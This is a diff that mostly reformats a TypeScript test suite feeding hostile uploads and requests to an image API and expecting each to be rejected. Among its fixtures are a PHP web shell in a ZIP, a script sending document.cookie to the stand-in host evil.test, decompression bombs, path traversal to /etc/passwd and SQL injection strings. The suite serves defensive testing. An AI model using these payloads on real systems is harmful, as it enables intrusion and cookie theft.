@@ -91,7 +91,11 @@ export function multipart(
         `Content-Disposition: form-data; name="${part.name}"${part.filename === undefined ? '' : `; filename="${part.filename}"`}`,
         ...(part.type ? [`Content-Type: ${part.type}`] : []),
       ].join('\r\n');
-    chunks.push(Buffer.from(`--${boundary}\r\n${headers}\r\n\r\n`), Buffer.from(part.data), Buffer.from('\r\n'));
+    chunks.push(
+      Buffer.from(`--${boundary}\r\n${headers}\r\n\r\n`),
+      Buffer.from(part.data),
+      Buffer.from('\r\n'),
+    );
   }
   chunks.push(Buffer.from(`--${boundary}--\r\n`));
   return { body: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
@@ -141,8 +145,22 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     const type = `image/${format}`;
     const file = `picture.${format}`;
     for (const fraction of [0.25, 0.5, 0.9, 0.99])
-      add('corrupt image', `${format} cut to ${fraction * 100}%`, truncated(image, fraction), unprocessable, type, file);
-    add('corrupt image', `${format} header only (16 bytes)`, image.subarray(0, 16), unprocessable, type, file);
+      add(
+        'corrupt image',
+        `${format} cut to ${fraction * 100}%`,
+        truncated(image, fraction),
+        unprocessable,
+        type,
+        file,
+      );
+    add(
+      'corrupt image',
+      `${format} header only (16 bytes)`,
+      image.subarray(0, 16),
+      unprocessable,
+      type,
+      file,
+    );
     add('corrupt image', `${format} corrupted after the header`, corrupted(image), unprocessable, type, file);
   }
   const signatures: Record<string, Buffer> = {
@@ -157,21 +175,62 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     add('corrupt image', `${format} signature and nothing else`, signature, unprocessable, `image/${format}`);
   add('corrupt image', 'an empty file', Buffer.alloc(0), invalid);
 
-  add('decompression bomb', 'PNG declaring 50 000 × 50 000', makePngBomb(50_000, 50_000), unprocessable, 'image/png');
-  add('decompression bomb', 'PNG declaring 100 000 × 100 000', makePngBomb(100_000, 100_000), unprocessable, 'image/png');
-  add('decompression bomb', 'PNG declaring 1 × 2³¹−1', makePngBomb(1, 2 ** 31 - 1), unprocessable, 'image/png');
-  add('decompression bomb', 'WebP declaring 16 383 × 16 383', await makeWebpBomb(), unprocessable, 'image/webp');
+  add(
+    'decompression bomb',
+    'PNG declaring 50 000 × 50 000',
+    makePngBomb(50_000, 50_000),
+    unprocessable,
+    'image/png',
+  );
+  add(
+    'decompression bomb',
+    'PNG declaring 100 000 × 100 000',
+    makePngBomb(100_000, 100_000),
+    unprocessable,
+    'image/png',
+  );
+  add(
+    'decompression bomb',
+    'PNG declaring 1 × 2³¹−1',
+    makePngBomb(1, 2 ** 31 - 1),
+    unprocessable,
+    'image/png',
+  );
+  add(
+    'decompression bomb',
+    'WebP declaring 16 383 × 16 383',
+    await makeWebpBomb(),
+    unprocessable,
+    'image/webp',
+  );
   add('decompression bomb', 'GIF declaring 65 535 × 65 535', await makeGifBomb(), unprocessable, 'image/gif');
   add('decompression bomb', 'JPEG declaring 65 500 × 65 500', await makeJpegBomb(), unprocessable);
-  add('decompression bomb', 'TIFF declaring 65 535 × 65 535', await makeTiffBomb(), unprocessable, 'image/tiff');
-  add('decompression bomb', 'AVIF declaring 100 000 × 100 000', await makeAvifBomb(), unprocessable, 'image/avif');
+  add(
+    'decompression bomb',
+    'TIFF declaring 65 535 × 65 535',
+    await makeTiffBomb(),
+    unprocessable,
+    'image/tiff',
+  );
+  add(
+    'decompression bomb',
+    'AVIF declaring 100 000 × 100 000',
+    await makeAvifBomb(),
+    unprocessable,
+    'image/avif',
+  );
 
   const jpeg = await makeJpeg(64, 48, 9);
   const png = await makePng(24, 24);
   const gif = await makeImage('gif', 24, 24);
   const html = '<html><body><script>fetch("//evil.test/?c="+document.cookie)</script></body></html>';
   const webShell = makeZip('shell.php', '<?php system($_GET["c"]); ?>');
-  add('polyglot', 'JPEG signature followed by HTML', Buffer.concat([jpeg.subarray(0, 4), Buffer.from(html)]), unprocessable);
+  add(
+    'polyglot',
+    'JPEG signature followed by HTML',
+    Buffer.concat([jpeg.subarray(0, 4), Buffer.from(html)]),
+    unprocessable,
+  );
   add(
     'polyglot',
     'JPEG/JavaScript (ÿØÿà/* … */=alert(1);)',
@@ -179,7 +238,13 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     unprocessable,
   );
   add('polyglot', 'JPEG with a ZIP web shell appended', Buffer.concat([jpeg, webShell]), unprocessable);
-  add('polyglot', 'PNG with a ZIP web shell appended', Buffer.concat([png, webShell]), unprocessable, 'image/png');
+  add(
+    'polyglot',
+    'PNG with a ZIP web shell appended',
+    Buffer.concat([png, webShell]),
+    unprocessable,
+    'image/png',
+  );
   add(
     'polyglot',
     'GIF with a JAR appended (GIFAR)',
@@ -187,9 +252,20 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     unprocessable,
     'image/gif',
   );
-  add('polyglot', 'GIF that is also JavaScript', await makeGifJavaScriptPolyglot(), unprocessable, 'image/gif');
+  add(
+    'polyglot',
+    'GIF that is also JavaScript',
+    await makeGifJavaScriptPolyglot(),
+    unprocessable,
+    'image/gif',
+  );
   add('polyglot', 'HTML followed by a JPEG', Buffer.concat([Buffer.from(html), jpeg]), unsupported);
-  add('polyglot', 'PDF header followed by a JPEG', Buffer.concat([Buffer.from('%PDF-1.4\n'), jpeg]), unsupported);
+  add(
+    'polyglot',
+    'PDF header followed by a JPEG',
+    Buffer.concat([Buffer.from('%PDF-1.4\n'), jpeg]),
+    unsupported,
+  );
   add(
     'polyglot',
     'SVG with an onload script',
@@ -213,7 +289,10 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     ['a ZIP archive', webShell],
     ['a BMP', Buffer.from('BM6\x00\x00\x00\x00\x00\x00\x006\x00\x00\x00'.padEnd(64, '\x00'), 'latin1')],
     ['an ICO', Buffer.from('\x00\x00\x01\x00\x01\x00\x10\x10'.padEnd(64, '\x00'), 'latin1')],
-    ['a HEIC (ftyp heic)', Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic'.padEnd(64, '\x00'), 'latin1')],
+    [
+      'a HEIC (ftyp heic)',
+      Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic'.padEnd(64, '\x00'), 'latin1'),
+    ],
     ['a JPEG XL codestream', Buffer.from('\xff\x0a\xfa\x7f'.padEnd(64, '\x00'), 'latin1')],
     ['a Photoshop file', Buffer.from('8BPS\x00\x01'.padEnd(64, '\x00'), 'latin1')],
     ['a RIFF WAVE file', Buffer.from('RIFF\x24\x00\x00\x00WAVEfmt '.padEnd(64, '\x00'), 'latin1')],
@@ -253,10 +332,25 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
 
   // Content types.
   const form = multipart(fileParts('a.jpg', jpeg));
-  upload('content type', 'JSON instead of multipart', jsonRequest({ file: jpeg.toString('base64') }), unsupported);
-  upload('content type', 'text/plain', { headers: { 'content-type': 'text/plain' }, body: 'hello' }, unsupported);
+  upload(
+    'content type',
+    'JSON instead of multipart',
+    jsonRequest({ file: jpeg.toString('base64') }),
+    unsupported,
+  );
+  upload(
+    'content type',
+    'text/plain',
+    { headers: { 'content-type': 'text/plain' }, body: 'hello' },
+    unsupported,
+  );
   upload('content type', 'no content type, raw JPEG bytes', { body: jpeg }, unsupported);
-  upload('content type', 'image/jpeg, raw bytes', { headers: { 'content-type': 'image/jpeg' }, body: jpeg }, unsupported);
+  upload(
+    'content type',
+    'image/jpeg, raw bytes',
+    { headers: { 'content-type': 'image/jpeg' }, body: jpeg },
+    unsupported,
+  );
   upload(
     'content type',
     'application/x-www-form-urlencoded',
@@ -269,7 +363,12 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
     { headers: { 'content-type': 'multipart/mixed; boundary=hostile-7f3a9c' }, body: form.body },
     unsupported,
   );
-  upload('content type', 'multipart/form-data without a boundary', { headers: { 'content-type': 'multipart/form-data' }, body: form.body }, invalid);
+  upload(
+    'content type',
+    'multipart/form-data without a boundary',
+    { headers: { 'content-type': 'multipart/form-data' }, body: form.body },
+    invalid,
+  );
   upload(
     'content type',
     'multipart/form-data with an empty boundary',
@@ -282,13 +381,45 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
     { headers: { 'content-type': 'multipart/form-data; boundary=something-else' }, body: form.body },
     invalid,
   );
-  upload('content type', 'multipart with an empty body', { headers: { 'content-type': form.contentType }, body: '' }, invalid);
-  const patchImage = (category: HostileCategory, name: string, init: Pick<HostileRequest, 'headers' | 'body'>, expect: HostileRequest['expect']) =>
-    add({ category, name: `retag: ${name}`, method: 'PATCH', path: `/v1/images/${imageId}`, ...init, expect });
-  patchImage('content type', 'multipart instead of JSON', multipartRequest([{ name: 'tags', data: '["a"]' }]), unsupported);
-  patchImage('content type', 'JSON sent as text/plain', { headers: { 'content-type': 'text/plain' }, body: '{"tags":["a"]}' }, unsupported);
+  upload(
+    'content type',
+    'multipart with an empty body',
+    { headers: { 'content-type': form.contentType }, body: '' },
+    invalid,
+  );
+  const patchImage = (
+    category: HostileCategory,
+    name: string,
+    init: Pick<HostileRequest, 'headers' | 'body'>,
+    expect: HostileRequest['expect'],
+  ) =>
+    add({
+      category,
+      name: `retag: ${name}`,
+      method: 'PATCH',
+      path: `/v1/images/${imageId}`,
+      ...init,
+      expect,
+    });
+  patchImage(
+    'content type',
+    'multipart instead of JSON',
+    multipartRequest([{ name: 'tags', data: '["a"]' }]),
+    unsupported,
+  );
+  patchImage(
+    'content type',
+    'JSON sent as text/plain',
+    { headers: { 'content-type': 'text/plain' }, body: '{"tags":["a"]}' },
+    unsupported,
+  );
   patchImage('content type', 'JSON with no content type', { body: '{"tags":["a"]}' }, unsupported);
-  patchImage('content type', 'application/jsonp', { headers: { 'content-type': 'application/jsonp' }, body: '{"tags":["a"]}' }, unsupported);
+  patchImage(
+    'content type',
+    'application/jsonp',
+    { headers: { 'content-type': 'application/jsonp' }, body: '{"tags":["a"]}' },
+    unsupported,
+  );
   add({
     category: 'content type',
     name: 'provision a tenant: form-urlencoded',
@@ -330,19 +461,38 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
 
   // Multipart structure and size.
   const withoutClosing = form.body.subarray(0, form.body.length - 40);
-  upload('multipart structure', 'cut off before the closing boundary', { headers: { 'content-type': form.contentType }, body: withoutClosing }, invalid);
+  upload(
+    'multipart structure',
+    'cut off before the closing boundary',
+    { headers: { 'content-type': form.contentType }, body: withoutClosing },
+    invalid,
+  );
   upload(
     'multipart structure',
     'a part without Content-Disposition',
     multipartRequest([{ name: 'file', data: jpeg, rawHeaders: 'Content-Type: image/jpeg' }]),
     invalid,
   );
-  upload('multipart structure', 'only a text field, no file', multipartRequest([{ name: 'tags', data: 'a,b' }]), invalid);
-  upload('multipart structure', 'a file over the per-image limit', multipartRequest(fileParts('big.jpg', Buffer.concat([jpeg, Buffer.alloc(hostileLimits.maxImageBytes)]))), tooLarge);
+  upload(
+    'multipart structure',
+    'only a text field, no file',
+    multipartRequest([{ name: 'tags', data: 'a,b' }]),
+    invalid,
+  );
+  upload(
+    'multipart structure',
+    'a file over the per-image limit',
+    multipartRequest(fileParts('big.jpg', Buffer.concat([jpeg, Buffer.alloc(hostileLimits.maxImageBytes)]))),
+    tooLarge,
+  );
   upload(
     'multipart structure',
     'a body over the request limit',
-    multipartRequest([...Array.from({ length: 9 }, (_, i) => fileParts(`${i}.jpg`, Buffer.alloc(hostileLimits.maxImageBytes - 1024, i))).flat()]),
+    multipartRequest([
+      ...Array.from({ length: 9 }, (_, i) =>
+        fileParts(`${i}.jpg`, Buffer.alloc(hostileLimits.maxImageBytes - 1024, i)),
+      ).flat(),
+    ]),
     tooLarge,
   );
   upload(
@@ -354,7 +504,10 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
   upload(
     'multipart structure',
     '17 text fields (16 allowed)',
-    multipartRequest([...fileParts('a.jpg', jpeg), ...Array.from({ length: 17 }, (_, i) => ({ name: `f${i}`, data: 'x' }))]),
+    multipartRequest([
+      ...fileParts('a.jpg', jpeg),
+      ...Array.from({ length: 17 }, (_, i) => ({ name: `f${i}`, data: 'x' })),
+    ]),
     tooLarge,
   );
   upload(
@@ -369,11 +522,22 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
     multipartRequest(Array.from({ length: 5000 }, () => ({ name: 'tags', data: '' }))),
     tooLarge,
   );
-  upload('multipart structure', 'a 20 KiB text field', multipartRequest([...fileParts('a.jpg', jpeg), { name: 'tags', data: 'a,'.repeat(10_240) }]), tooLarge);
+  upload(
+    'multipart structure',
+    'a 20 KiB text field',
+    multipartRequest([...fileParts('a.jpg', jpeg), { name: 'tags', data: 'a,'.repeat(10_240) }]),
+    tooLarge,
+  );
   upload(
     'multipart structure',
     'a part header line of 100 KiB',
-    multipartRequest([{ name: 'file', data: jpeg, rawHeaders: `Content-Disposition: form-data; name="file"; filename="${'a'.repeat(100 * 1024)}.jpg"` }]),
+    multipartRequest([
+      {
+        name: 'file',
+        data: jpeg,
+        rawHeaders: `Content-Disposition: form-data; name="file"; filename="${'a'.repeat(100 * 1024)}.jpg"`,
+      },
+    ]),
     invalid,
   );
   upload(
@@ -382,14 +546,22 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
     multipartRequest(fileParts('evil\u0000.php.jpg', jpeg)),
     invalid,
   );
-  upload('multipart structure', 'an empty file part', multipartRequest(fileParts('empty.jpg', Buffer.alloc(0))), invalid);
+  upload(
+    'multipart structure',
+    'an empty file part',
+    multipartRequest(fileParts('empty.jpg', Buffer.alloc(0))),
+    invalid,
+  );
 
   // Upload fields with a good image.
   const withFields = (name: string, fields: Record<string, string>, expect = invalid) =>
     upload(
       'upload fields',
       name,
-      multipartRequest([...fileParts('a.jpg', jpeg), ...Object.entries(fields).map(([n, data]) => ({ name: n, data }))]),
+      multipartRequest([
+        ...fileParts('a.jpg', jpeg),
+        ...Object.entries(fields).map(([n, data]) => ({ name: n, data })),
+      ]),
       expect,
     );
   withFields('tags as JSON holding a number', { tags: '["a", 3]' });
@@ -429,16 +601,47 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
     ['null', 'null'],
     ['an array', '[{"tags": ["a"]}]'],
     ['a bare string', '"tags"'],
-    ['invalid UTF-8 bytes', Buffer.from([0x7b, 0x22, 0x74, 0x61, 0x67, 0x73, 0x22, 0x3a, 0x5b, 0xff, 0xfe, 0x5d, 0x7d])],
+    [
+      'invalid UTF-8 bytes',
+      Buffer.from([0x7b, 0x22, 0x74, 0x61, 0x67, 0x73, 0x22, 0x3a, 0x5b, 0xff, 0xfe, 0x5d, 0x7d]),
+    ],
     ['nested 100 000 deep', '{"tags":' + '['.repeat(100_000) + ']'.repeat(100_000) + '}'],
     ['a number too large for a double', '{"tags": 1e400}'],
     ['a duplicate key that makes it invalid', '{"tags": ["a"], "tags": 7}'],
   ];
   for (const [name, text] of malformed) patchImage('malformed JSON', name, rawJson(text), invalid);
-  patchImage('malformed JSON', 'a 9 MiB body', rawJson(`{"tags": ["${'a'.repeat(hostileLimits.maxRequestBytes)}"]}`), tooLarge);
-  add({ category: 'malformed JSON', name: 'provision a tenant: truncated', method: 'POST', path: '/v1/tenants', as: 'admin', ...rawJson('{"slug": '), expect: invalid });
-  add({ category: 'malformed JSON', name: 'sign in: truncated', method: 'POST', path: '/v1/auth/token', as: 'anonymous', ...rawJson('{"grant_type":"password","email":'), expect: invalid });
-  add({ category: 'malformed JSON', name: 'create an API key: trailing comma', method: 'POST', path: `/v1/tenants/${tenantId}/api-keys`, ...rawJson('{"scopes": ["images:read"],}'), expect: invalid });
+  patchImage(
+    'malformed JSON',
+    'a 9 MiB body',
+    rawJson(`{"tags": ["${'a'.repeat(hostileLimits.maxRequestBytes)}"]}`),
+    tooLarge,
+  );
+  add({
+    category: 'malformed JSON',
+    name: 'provision a tenant: truncated',
+    method: 'POST',
+    path: '/v1/tenants',
+    as: 'admin',
+    ...rawJson('{"slug": '),
+    expect: invalid,
+  });
+  add({
+    category: 'malformed JSON',
+    name: 'sign in: truncated',
+    method: 'POST',
+    path: '/v1/auth/token',
+    as: 'anonymous',
+    ...rawJson('{"grant_type":"password","email":'),
+    expect: invalid,
+  });
+  add({
+    category: 'malformed JSON',
+    name: 'create an API key: trailing comma',
+    method: 'POST',
+    path: `/v1/tenants/${tenantId}/api-keys`,
+    ...rawJson('{"scopes": ["images:read"],}'),
+    expect: invalid,
+  });
 
   // Wrong types, unknown fields, out-of-range values: every field of every command.
   const bodies = (
@@ -449,7 +652,15 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
     cases: [string, unknown, HostileRequest['expect']?][],
   ) => {
     for (const [label, value, expect] of cases)
-      add({ category: 'wrong type', name: `${name}: ${label}`, method, path, as, ...jsonRequest(value), expect: expect ?? invalid });
+      add({
+        category: 'wrong type',
+        name: `${name}: ${label}`,
+        method,
+        path,
+        as,
+        ...jsonRequest(value),
+        expect: expect ?? invalid,
+      });
   };
   bodies('retag', 'PATCH', `/v1/images/${imageId}`, 'tenant', [
     ['tags as a string', { tags: 'a,b' }],
@@ -490,10 +701,38 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
     ['an unknown plan', { slug: 'platinum', name: 'x', plan: 'platinum' }],
     ['plan as null', { slug: 'nullplan', name: 'x', plan: null }],
     ['empty limits', { slug: 'emptylimits', name: 'x', limits: {} }],
-    ['negative limits', { slug: 'neglimits', name: 'x', limits: { maxImages: -1, maxBytes: 1, maxImageBytes: 1, requestsPerMinute: 1 } }],
-    ['fractional limits', { slug: 'fraclimits', name: 'x', limits: { maxImages: 1.5, maxBytes: 1, maxImageBytes: 1, requestsPerMinute: 1 } }],
-    ['limits as strings', { slug: 'strlimits', name: 'x', limits: { maxImages: '10', maxBytes: '1', maxImageBytes: '1', requestsPerMinute: '1' } }],
-    ['limits with an unknown field', { slug: 'morelimits', name: 'x', limits: { maxImages: 1, maxBytes: 1, maxImageBytes: 1, requestsPerMinute: 1, admin: true } }],
+    [
+      'negative limits',
+      {
+        slug: 'neglimits',
+        name: 'x',
+        limits: { maxImages: -1, maxBytes: 1, maxImageBytes: 1, requestsPerMinute: 1 },
+      },
+    ],
+    [
+      'fractional limits',
+      {
+        slug: 'fraclimits',
+        name: 'x',
+        limits: { maxImages: 1.5, maxBytes: 1, maxImageBytes: 1, requestsPerMinute: 1 },
+      },
+    ],
+    [
+      'limits as strings',
+      {
+        slug: 'strlimits',
+        name: 'x',
+        limits: { maxImages: '10', maxBytes: '1', maxImageBytes: '1', requestsPerMinute: '1' },
+      },
+    ],
+    [
+      'limits with an unknown field',
+      {
+        slug: 'morelimits',
+        name: 'x',
+        limits: { maxImages: 1, maxBytes: 1, maxImageBytes: 1, requestsPerMinute: 1, admin: true },
+      },
+    ],
     ['an unknown field id', { slug: 'chosenid', name: 'x', id: missingId }],
     ['an unknown field status', { slug: 'chosenstatus', name: 'x', status: 'active' }],
     ['an array body', [{ slug: 'arraybody', name: 'x' }]],
@@ -501,7 +740,10 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
   bodies('change a tenant', 'PATCH', `/v1/tenants/${tenantId}`, 'admin', [
     ['status deleted', { status: 'deleted' }],
     ['suspended without a reason', { status: 'suspended' }],
-    ['limits without a plan', { limits: { maxImages: 1, maxBytes: 1, maxImageBytes: 1, requestsPerMinute: 1 } }],
+    [
+      'limits without a plan',
+      { limits: { maxImages: 1, maxBytes: 1, maxImageBytes: 1, requestsPerMinute: 1 } },
+    ],
     ['an empty reason', { status: 'suspended', reason: '' }],
     ['a 501-character reason', { status: 'suspended', reason: 'r'.repeat(501) }],
     ['name as a number', { name: 7 }],
@@ -527,7 +769,12 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
     ['an unknown field tenantId', { ...storage, tenantId: missingId }],
     ['nothing', {}],
   ]);
-  const user = { email: 'new@hostile.test', password: 'a long enough password', role: 'tenant_user', tenantId };
+  const user = {
+    email: 'new@hostile.test',
+    password: 'a long enough password',
+    role: 'tenant_user',
+    tenantId,
+  };
   bodies('create a user', 'POST', '/v1/users', 'admin', [
     ['an e-mail that is not one', { ...user, email: 'not-an-email' }],
     ['e-mail as a number', { ...user, email: 1 }],
@@ -567,8 +814,14 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
     ['grant_type client_credentials', { grant_type: 'client_credentials', client_id: 'x' }],
     ['grant_type refresh_token', { grant_type: 'refresh_token', refresh_token: 'x' }],
     ['grant_type as a number', { grant_type: 1 }],
-    ['a password grant with an api_key', { grant_type: 'password', email: 'a@b.test', password: 'x', api_key: 'k' }],
-    ['a password grant asking for a role', { grant_type: 'password', email: 'a@b.test', password: 'x', role: 'platform_admin' }],
+    [
+      'a password grant with an api_key',
+      { grant_type: 'password', email: 'a@b.test', password: 'x', api_key: 'k' },
+    ],
+    [
+      'a password grant asking for a role',
+      { grant_type: 'password', email: 'a@b.test', password: 'x', role: 'platform_admin' },
+    ],
     ['an e-mail that is not one', { grant_type: 'password', email: 'admin', password: 'x' }],
     ['an empty password', { grant_type: 'password', email: 'a@b.test', password: '' }],
     ['a 1 025-character password', { grant_type: 'password', email: 'a@b.test', password: 'p'.repeat(1025) }],
@@ -591,55 +844,160 @@ export async function writeApiHostileRequests(ctx: HostileContext): Promise<Host
 
   // Text PostgreSQL cannot store (U+0000, unpaired surrogates), and text too long once counted right.
   const text = (name: string, method: string, path: string, as: HostileRequest['as'], value: unknown) =>
-    add({ category: 'unicode and injection', name, method, path, as, ...jsonRequest(value), expect: invalid });
+    add({
+      category: 'unicode and injection',
+      name,
+      method,
+      path,
+      as,
+      ...jsonRequest(value),
+      expect: invalid,
+    });
   text('retag: a NUL in a tag', 'PATCH', `/v1/images/${imageId}`, 'tenant', { tags: ['a\u0000b'] });
-  text('retag: a NUL in an attribute value', 'PATCH', `/v1/images/${imageId}`, 'tenant', { attributes: { k: 'v\u0000' } });
-  text('retag: a NUL in an attribute key', 'PATCH', `/v1/images/${imageId}`, 'tenant', { attributes: { 'k\u0000': 'v' } });
-  text('retag: an unpaired surrogate in a tag', 'PATCH', `/v1/images/${imageId}`, 'tenant', { tags: ['\ud800'] });
+  text('retag: a NUL in an attribute value', 'PATCH', `/v1/images/${imageId}`, 'tenant', {
+    attributes: { k: 'v\u0000' },
+  });
+  text('retag: a NUL in an attribute key', 'PATCH', `/v1/images/${imageId}`, 'tenant', {
+    attributes: { 'k\u0000': 'v' },
+  });
+  text('retag: an unpaired surrogate in a tag', 'PATCH', `/v1/images/${imageId}`, 'tenant', {
+    tags: ['\ud800'],
+  });
   text('retag: a tag of 33 emoji', 'PATCH', `/v1/images/${imageId}`, 'tenant', { tags: ['😀'.repeat(33)] });
-  text('provision a tenant: a NUL in the name', 'POST', '/v1/tenants', 'admin', { slug: 'nulname', name: 'Acme\u0000Corp' });
-  text('provision a tenant: an RTL override in the slug', 'POST', '/v1/tenants', 'admin', { slug: '\u202eemca', name: 'x' });
-  text('change a tenant: a NUL in the suspension reason', 'PATCH', `/v1/tenants/${tenantId}`, 'admin', { status: 'suspended', reason: 'unpaid\u0000' });
-  text('create an API key: a NUL in the name', 'POST', `/v1/tenants/${tenantId}/api-keys`, 'tenant', { scopes: ['search'], name: 'ci\u0000' });
-  text('create a user: a NUL in the e-mail', 'POST', '/v1/users', 'admin', { ...user, email: 'a\u0000@hostile.test' });
-  text('configure storage: a NUL in the access key id', 'PUT', `/v1/tenants/${tenantId}/storage`, 'admin', { ...storage, accessKeyId: 'AKIA\u0000' });
+  text('provision a tenant: a NUL in the name', 'POST', '/v1/tenants', 'admin', {
+    slug: 'nulname',
+    name: 'Acme\u0000Corp',
+  });
+  text('provision a tenant: an RTL override in the slug', 'POST', '/v1/tenants', 'admin', {
+    slug: '\u202eemca',
+    name: 'x',
+  });
+  text('change a tenant: a NUL in the suspension reason', 'PATCH', `/v1/tenants/${tenantId}`, 'admin', {
+    status: 'suspended',
+    reason: 'unpaid\u0000',
+  });
+  text('create an API key: a NUL in the name', 'POST', `/v1/tenants/${tenantId}/api-keys`, 'tenant', {
+    scopes: ['search'],
+    name: 'ci\u0000',
+  });
+  text('create a user: a NUL in the e-mail', 'POST', '/v1/users', 'admin', {
+    ...user,
+    email: 'a\u0000@hostile.test',
+  });
+  text('configure storage: a NUL in the access key id', 'PUT', `/v1/tenants/${tenantId}/storage`, 'admin', {
+    ...storage,
+    accessKeyId: 'AKIA\u0000',
+  });
 
   // Path parameters.
-  const path = (name: string, method: string, p: string, expect: HostileRequest['expect'], as: HostileRequest['as'] = 'tenant', init = jsonRequest({ tags: ['a'] })) =>
-    add({ category: 'path parameter', name, method, path: p, as, ...(method === 'DELETE' || method === 'GET' ? {} : init), expect });
+  const path = (
+    name: string,
+    method: string,
+    p: string,
+    expect: HostileRequest['expect'],
+    as: HostileRequest['as'] = 'tenant',
+    init = jsonRequest({ tags: ['a'] }),
+  ) =>
+    add({
+      category: 'path parameter',
+      name,
+      method,
+      path: p,
+      as,
+      ...(method === 'DELETE' || method === 'GET' ? {} : init),
+      expect,
+    });
   path('retag: an id that is not a UUID', 'PATCH', '/v1/images/not-a-uuid', invalid);
   path('retag: an encoded path traversal', 'PATCH', '/v1/images/..%2F..%2Fetc%2Fpasswd', invalid);
-  path('delete: encoded dots and slashes', 'DELETE', '/v1/images/%2e%2e%2f%2e%2e%2fwrite.aggregates', invalid);
+  path(
+    'delete: encoded dots and slashes',
+    'DELETE',
+    '/v1/images/%2e%2e%2f%2e%2e%2fwrite.aggregates',
+    invalid,
+  );
   path('delete: a UUID with a NUL after it', 'DELETE', `/v1/images/${missingId}%00`, invalid);
   path('delete: a UUID with SQL after it', 'DELETE', `/v1/images/${missingId}'%20or%20'1'='1`, invalid);
   path('delete: a 10 000-character id', 'DELETE', `/v1/images/${'a'.repeat(10_000)}`, invalid);
   path('delete: an id nobody has', 'DELETE', `/v1/images/${missingId}`, notFound);
   path('delete: the nil UUID', 'DELETE', '/v1/images/00000000-0000-0000-0000-000000000000', notFound);
   path('retag: an id nobody has', 'PATCH', `/v1/images/${missingId}`, notFound);
-  path('dot segments up to /v1/tenants (a tenant user)', 'POST', '/v1/images/../tenants', forbidden, 'tenant', jsonRequest({ slug: 'dotted', name: 'x' }));
+  path(
+    'dot segments up to /v1/tenants (a tenant user)',
+    'POST',
+    '/v1/images/../tenants',
+    forbidden,
+    'tenant',
+    jsonRequest({ slug: 'dotted', name: 'x' }),
+  );
   path('read a tenant: encoded traversal', 'GET', '/v1/tenants/..%2f..%2fplatform', invalid, 'admin');
   path('erase a tenant nobody has', 'DELETE', `/v1/tenants/${missingId}`, notFound, 'admin');
-  path('create an API key: a tenant id that is not a UUID', 'POST', '/v1/tenants/not-a-uuid/api-keys', invalid, 'tenant', jsonRequest({ scopes: ['search'] }));
-  path('create an API key: another tenant id', 'POST', `/v1/tenants/${missingId}/api-keys`, notFound, 'tenant', jsonRequest({ scopes: ['search'] }));
-  path('revoke an API key: encoded traversal', 'DELETE', `/v1/tenants/${tenantId}/api-keys/..%2f..%2fx`, invalid);
+  path(
+    'create an API key: a tenant id that is not a UUID',
+    'POST',
+    '/v1/tenants/not-a-uuid/api-keys',
+    invalid,
+    'tenant',
+    jsonRequest({ scopes: ['search'] }),
+  );
+  path(
+    'create an API key: another tenant id',
+    'POST',
+    `/v1/tenants/${missingId}/api-keys`,
+    notFound,
+    'tenant',
+    jsonRequest({ scopes: ['search'] }),
+  );
+  path(
+    'revoke an API key: encoded traversal',
+    'DELETE',
+    `/v1/tenants/${tenantId}/api-keys/..%2f..%2fx`,
+    invalid,
+  );
   path('revoke an API key nobody has', 'DELETE', `/v1/tenants/${tenantId}/api-keys/${missingId}`, notFound);
   path('a method with no route: PUT /v1/images', 'PUT', '/v1/images', notFound);
   path('a method with no route: POST /v1/images/{id}', 'POST', `/v1/images/${imageId}`, notFound);
 
   // Credentials and headers.
-  const credentials = (name: string, headers: Record<string, string>, expect: HostileRequest['expect'] = unauthenticated) =>
-    add({ category: 'credentials', name: `upload: ${name}`, method: 'POST', path: '/v1/images', as: 'anonymous', ...multipartRequest(fileParts('a.jpg', jpeg)), headers: { ...multipartRequest([]).headers, ...headers }, expect });
+  const credentials = (
+    name: string,
+    headers: Record<string, string>,
+    expect: HostileRequest['expect'] = unauthenticated,
+  ) =>
+    add({
+      category: 'credentials',
+      name: `upload: ${name}`,
+      method: 'POST',
+      path: '/v1/images',
+      as: 'anonymous',
+      ...multipartRequest(fileParts('a.jpg', jpeg)),
+      headers: { ...multipartRequest([]).headers, ...headers },
+      expect,
+    });
   credentials('no credentials', {});
-  credentials('Basic credentials', { authorization: `Basic ${Buffer.from('admin:admin').toString('base64')}` });
+  credentials('Basic credentials', {
+    authorization: `Basic ${Buffer.from('admin:admin').toString('base64')}`,
+  });
   credentials('Bearer with no token', { authorization: 'Bearer' });
   credentials('a garbage Bearer token', { authorization: 'Bearer not.a.jwt' });
   credentials('a 10 KiB Bearer token', { authorization: `Bearer ${'a'.repeat(10_240)}` });
-  credentials('both Authorization and X-API-Key', { authorization: 'Bearer x', 'x-api-key': 'dl_aaaaaaaa_x' }, invalid);
+  credentials(
+    'both Authorization and X-API-Key',
+    { authorization: 'Bearer x', 'x-api-key': 'dl_aaaaaaaa_x' },
+    invalid,
+  );
   credentials('a malformed API key', { 'x-api-key': 'letmein' });
   credentials('a well-formed API key nobody holds', { 'x-api-key': `dl_aaaaaaaa_${'A'.repeat(43)}` });
   credentials('an ApiKey scheme key nobody holds', { authorization: `ApiKey dl_zzzzzzzz_${'B'.repeat(43)}` });
   const header = (name: string, headers: Record<string, string>) =>
